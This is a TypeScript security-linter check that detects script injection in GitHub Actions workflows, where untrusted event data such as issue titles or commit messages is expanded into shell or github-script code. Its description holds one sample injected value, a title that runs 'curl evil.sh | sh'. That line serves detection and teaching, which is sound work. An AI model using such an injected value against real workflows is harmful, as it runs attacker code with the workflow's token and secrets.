import { defineCheck } from '../../check.js';
import { scalar } from '../../parsers/yaml-doc.js';
import { expressionsIn, get, stepLabel, usesAction, workflowsOf } from '../gha-workflow.js';

/**
 * Event fields that whoever opens an issue, a pull request, a comment or pushes a branch
 * writes: `*` stands for any index (`commits[0]`, `pages.*`).
 */
const UNTRUSTED = [
  'github.head_ref',
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.commits.*.committer.email',
  'github.event.commits.*.committer.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.head_commit.committer.email',
  'github.event.head_commit.committer.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
].map((p) => p.split('.'));

/** `github.event['issue'].title`, `commits[0]` → dotted segments, `*` for an index. */
function normalize(path: string): string[] {
  return path
    .toLowerCase()
    .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
    .replace(/\[[^\]]*\]/g, '.*')
    .split('.')
    .map((s) => s.trim())
    .filter((s) => s !== '');
}

/** A path is untrusted when it is an untrusted field, a part of one, or an object holding one. */
function untrusted(path: string[]): string | undefined {
  for (const field of UNTRUSTED) {
    const n = Math.min(field.length, path.length);
    let same = true;
    for (let i = 0; i < n && same; i++) same = field[i] === '*' || field[i] === path[i];
    if (same) return path.join('.');
  }
  return undefined;
}

/** The untrusted `github` paths an expression reads (string literals set aside). */
function untrustedPaths(inner: string): string[] {
  // String literals are blanked, except property names in `github.event['issue']`.
  const code = inner.replace(/'(?:[^']|'')*'/g, (s, at: number) =>
    /\[\s*$/.test(inner.slice(0, at)) && /^\s*\]/.test(inner.slice(at + s.length))
      ? s
      : ' '.repeat(s.length),
  );
  // A comparison or a `contains(...)` test yields true/false, not the text.
  if (
    !/&&|\|\|/.test(code) &&
    (/==|!=|<|>/.test(code) || /^\s*!?\s*(?:contains|startswith|endswith)\s*\(/i.test(code))
  )
    return [];
  const found: string[] = [];
  for (const m of code.matchAll(/(?<![\w.-])github(?:\s*\.\s*[\w*-]+|\s*\[[^\]]*\])*/gi)) {
    const hit = untrusted(normalize(m[0]));
    if (hit && !found.includes(hit)) found.push(hit);
  }
  return found;
}

/** `${{ github.event.issue.title }}` and kin expanded into a shell script or a github-script. */
export const ghaExpressionInjection = defineCheck({
  meta: {
    id: 'gha-expression-injection',
    kind: 'github-actions',
    title: 'Untrusted input expanded into a script',
    severity: 'high',
    cwe: ['CWE-78', 'CWE-94'],
    owasp: 'A03:2021',
    description:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, not a template
      'A `${{ }}` expression that reads attacker-controlled event data (an issue or pull request title, a branch name, a comment, a commit message) is pasted into the script before it runs: a title such as `"; curl evil.sh | sh; "` runs commands with the workflow token and secrets.',
    remediation:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, not a template
      'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` and `run: echo "$TITLE"` (in `actions/github-script`, read `context.payload.issue.title` or `process.env.TITLE` instead of an expression).',
    references: [
      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
  },
  check(doc, report) {
    for (const workflow of workflowsOf(doc)) {
      for (const job of workflow.jobs) {
        for (const step of job.steps) {
          const scripts = [{ node: step.run, where: '`run:` script' }];
          if (usesAction(step, 'actions/github-script'))
            scripts.push({ node: get(doc, step.with, 'script'), where: '`github-script` script' });
          for (const { node, where } of scripts) {
            if (scalar(node) === undefined) continue;
            for (const expr of expressionsIn(doc, node)) {
              const paths = untrustedPaths(expr.inner);
              if (paths.length === 0) continue;
              report({
                line: expr.line,
                column: expr.column,
                message: `${paths.map((p) => `\`${p}\``).join(', ')} ${paths.length > 1 ? 'are' : 'is'} expanded into the ${where} of ${stepLabel(doc, job, step)}: attacker-controlled text becomes code.`,
              });
            }
          }
        }
      }
    }
  },
});
